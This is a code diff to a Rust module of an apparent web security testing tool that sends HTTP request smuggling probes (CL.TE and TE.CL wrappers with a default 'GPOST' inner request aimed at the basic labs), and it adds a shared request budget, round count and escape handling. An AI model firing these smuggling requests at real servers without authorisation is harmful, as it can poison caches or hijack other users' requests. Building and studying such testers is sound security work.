@@ -13,14 +13,23 @@ use std::time::Duration;
 
 use colored::*;
 
+use super::ExploitBudget;
 use crate::error::Result;
-use crate::http::send_request;
-use crate::utils::parse_status_code;
+use crate::http::{HttpResponse, send_request};
 
 /// Default inner request: makes the back-end process a request with the
 /// (invalid) method `GPOST` — the objective of the basic CL.TE / TE.CL labs.
 pub const DEFAULT_SMUGGLE_REQUEST: &str = "GPOST / HTTP/1.1\r\nContent-Length: 15\r\n\r\nx=1";
 
+/// Times each wrapper shape is replayed.
+pub const SMUGGLE_ROUNDS: usize = 6;
+
+/// Interpret the `\r\n` / `\n` escapes of a `--smuggle-request` value, so the
+/// inner request can be passed on one command line.
+pub fn unescape_request(request: &str) -> String {
+    request.replace("\\r\\n", "\r\n").replace("\\n", "\n")
+}
+
 pub struct SmuggleParams<'a> {
     pub host: &'a str,
     pub port: u16,
@@ -34,6 +43,8 @@ pub struct SmuggleParams<'a> {
     pub rounds: usize,
     /// Delay between requests in milliseconds.
     pub delay: u64,
+    /// Caps shared with the other exploits
+    pub budget: &'a ExploitBudget,
 }
 
 #[derive(Debug)]
@@ -111,7 +122,7 @@ async fn replay(params: &SmuggleParams<'_>, shape: &str, request: &str) -> Vec<O
         .await
         {
             Ok((resp, _)) => {
-                let code = parse_status_code(resp.lines().next().unwrap_or(""));
+                let code = HttpResponse::parse(resp.as_bytes()).status;
                 if params.verbose {
                     println!(
                         "  {} {} round {}: {}",
@@ -153,6 +164,17 @@ pub async fn test_smuggle(params: &SmuggleParams<'_>) -> Result<SmuggleResult> {
             ("TE.CL", build_tecl(params.host, params.path, inner, te)),
         ] {
             let label = format!("{} [TE:{}]", shape, vlabel);
+            if !params.budget.take(params.rounds) {
+                return Ok(SmuggleResult {
+                    delivered_via: None,
+                    reason: format!(
+                        "{}; stopped before {} with no divergence observed",
+                        params.budget.exhausted_reason(),
+                        label
+                    ),
+                    observations,
+                });
+            }
             let statuses = replay(params, &label, &request).await;
             let rendered: Vec<String> = statuses
                 .iter()